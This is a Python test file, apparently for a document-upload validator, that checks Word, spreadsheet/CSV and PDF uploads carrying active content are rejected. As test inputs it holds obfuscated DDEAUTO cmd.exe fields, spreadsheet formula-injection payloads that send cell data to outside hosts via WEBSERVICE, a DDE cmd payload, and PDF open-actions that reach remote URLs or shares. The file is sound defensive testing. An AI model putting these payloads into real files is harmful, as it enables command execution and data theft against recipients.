"""What a program would run, fetch or reckon with is found however it is written; what only looks like it is let by."""

import time

import pytest
from django.core.exceptions import ValidationError
from pikepdf import Array, Dictionary, Name

from chaos import bad_files as make
from office.uploads.office_files import SHEET, WORD, check_office
from office.uploads.pdfs import check_pdf
from office.uploads.texts import check_table

COMMAND = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PLAIN = f"<w:r><w:instrText>{COMMAND}</w:instrText></w:r>"
BETWEEN = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
WORDS = {
    "between other fields": f"<w:r><w:instrText>PAGE</w:instrText></w:r>{BETWEEN.format('begin')}{PLAIN}",
    "cut in two": "<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>",
    "cut in two by a field": f"<w:instrText>DDE</w:instrText>{BETWEEN.format('end')}<w:instrText>AUTO c</w:instrText>",
    "in one piece": f"<w:fldSimple w:instr='{COMMAND}'><w:r/></w:fldSimple>",
    "with a sign by its number": "<w:r><w:instrText>&#68;DEAUTO cmd</w:instrText></w:r>",
    "as data": "<w:r><w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText></w:r>",
    "of a picture": '<w:r><w:instrText>INCLUDEPICTURE "http://a.example/"</w:instrText></w:r>',
}
QUIET_WORDS = [
    "<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>",
    "<w:fldSimple w:instr=' TOC \\o '><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:fldSimple>",
    "<w:r><w:t>Fältet DDEAUTO ska inte stå i en instrText.</w:t></w:r>",
]


def document(words):
    return f'<w:document xmlns:w="{SPACE}"><w:body><w:p>{words}</w:p></w:body></w:document>'


def word(content, name="word/document.xml", more=""):
    return make.parcel(make.types(more=more), (name, content))


@pytest.mark.parametrize("words", WORDS.values(), ids=WORDS)
def test_a_field_that_fetches_is_found(words):
    with pytest.raises(ValidationError, match="hämtar"):
        check_office(word(document(words)), WORD)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_it_is_found_in_whatever_signs_the_part_is_written(encoding):
    with pytest.raises(ValidationError, match="hämtar"):
        check_office(word(document(PLAIN).encode(encoding)), WORD)


def test_it_is_found_whatever_the_words_are_called():
    other = document(PLAIN).replace("w:", "x:").replace("xmlns:w", "xmlns:x")
    with pytest.raises(ValidationError, match="hämtar"):
        check_office(word(other), WORD)


@pytest.mark.parametrize("name", ["word/deep/down.xml", "Word/DOCUMENT.XML", "word/document.png"])
def test_it_is_found_wherever_the_part_lies(name):
    told = f'<Override PartName="/{name}" ContentType="{WORD}.main+xml"/>'
    with pytest.raises(ValidationError, match="hämtar"):
        check_office(word(document(PLAIN), name, told), WORD)


def test_a_part_that_says_beforehand_what_its_signs_mean_is_refused():
    told = f'<!DOCTYPE a [<!ENTITY d "DDEAUTO">]>{document("<w:instrText>&d; cmd</w:instrText>")}'
    with pytest.raises(ValidationError, match="skadad"):
        check_office(word(told), WORD)


@pytest.mark.parametrize("words", QUIET_WORDS)
def test_a_field_that_fetches_nothing_is_let_by(words):
    check_office(word(document(words)), WORD)


def test_macros_are_found_whatever_their_kind_is_written_with():
    told = '<Override PartName="/b.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
    with pytest.raises(ValidationError, match="makron"):
        check_office(word(document(""), more=told), WORD)


@pytest.mark.parametrize("kind", ["aFChunk", "vbaProject", "oleObject "])
def test_another_file_within_is_found_by_how_it_is_tied(kind):
    with pytest.raises(ValidationError, match="inbäddade"):
        check_office(make.office(make.relation(kind, "afchunk.html", mode="Internal")), WORD)


def test_a_book_that_asks_another_is_found_wherever_it_says_so():
    told = make.types("xlsx", '<Override PartName="/xl/a.xml" ContentType="application/x.externalLink+xml"/>')
    with pytest.raises(ValidationError, match="hämtar"):
        check_office(make.parcel(told, ("xl/a.xml", b"<a/>")), SHEET)


@pytest.mark.parametrize("cell", [
    '=WEBSERVICE("https://e/"&A1)', '=1*WEBSERVICE("https://e/"&A1)', '=(HYPERLINK("https://e/?"&A1))',
    '=-WEBSERVICE("https://e/"&A1)', '="a"&WEBSERVICE("https://e/")', "=A1", "=1+1", "=[bok.xlsx]Blad!A1", " =A1",
    '+1+WEBSERVICE("x")', "-webservice(A1)", '- webservice ("x")', "-WEBSERVICE (A1)", "-{1;2}+WEBSERVICE(A1)",
    "@SUM(A1)", "@1+sum(A1)", "+cmd|' /C calc'!A0", "-'\\\\a.example\\b\\[x.xlsx]Blad'!A1", "-WEBSERVICE ((A1))",
])  # fmt: skip
@pytest.mark.parametrize(
    "table", ["{}\n", 'a,"{}"\n', "a\t{}\n", '1;"{}";2\n', '"rad ett\nrad två";"{}"\n', "sep=^\n1^{}\n"]
)
def test_a_cell_that_a_spreadsheet_would_reckon_with_is_found(table, cell):
    quoted = cell.replace('"', '""') if '"{}"' in table else cell
    with pytest.raises(ValidationError, match="formler"):
        check_table(table.format(quoted).encode())


@pytest.mark.parametrize("cell", [
    "-", "--", "-5", "+5,5", "-1 000", "+46 225 340 00", "+46 (0)225-340 00", "= 3", "- En (chef)", "- Hej! Kom",
    "- Lampan är trasig, gatan mörk (vid skolan)", "@skolchef", "a@b.example", "a=b", "1-2", "F-3 (skola)", "-10 °C",
])  # fmt: skip
@pytest.mark.parametrize("table", ["{};Skola(F-3)\n", 'a;"{}";Ring(en)\n', "{}\tRing(en)\n"])
def test_a_cell_of_words_or_numbers_is_let_by(table, cell):
    check_table(table.format(cell).encode())


def test_a_table_of_one_long_line_is_read_to_its_end():
    long = "x" * 200_000
    check_table(f'a;"{long}\n'.encode())
    with pytest.raises(ValidationError, match="formler"):
        check_table(f'a;"{long}";=A1\n'.encode())


@pytest.mark.parametrize("sign", ["x", "(", " ", '"', "-", "a ("])
def test_a_very_long_cell_takes_no_long_time_to_read(sign):
    began = time.process_time()
    check_table(f"-{sign * 300_000}\n".encode())

    assert time.process_time() - began < 5


OUTSIDE = {
    "to the web": {"S": Name.URI, "URI": "https://a.example/?hit"},
    "to a file elsewhere": {"S": Name.GoToR, "F": r"\\a.example\share\x.pdf"},
}


def opens_and_then(**action):
    def change(made, page):
        then = Dictionary({f"/{key}": value for key, value in action.items()})
        made.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=then)

    return change


@pytest.mark.parametrize("action", OUTSIDE.values(), ids=OUTSIDE)
@pytest.mark.parametrize("opens", [opens_and_then, make.opens_with])
def test_a_pdf_that_goes_out_when_it_is_opened_is_refused(opens, action):
    with pytest.raises(ValidationError, match="kommandon"):
        check_pdf(make.pdf(opens(**action)))


def test_a_pdf_that_opens_on_a_page_is_let_by():
    check_pdf(
        make.pdf(lambda made, page: setattr(made.Root, "OpenAction", Dictionary(S=Name.GoTo, D=Array([page.obj]))))
    )
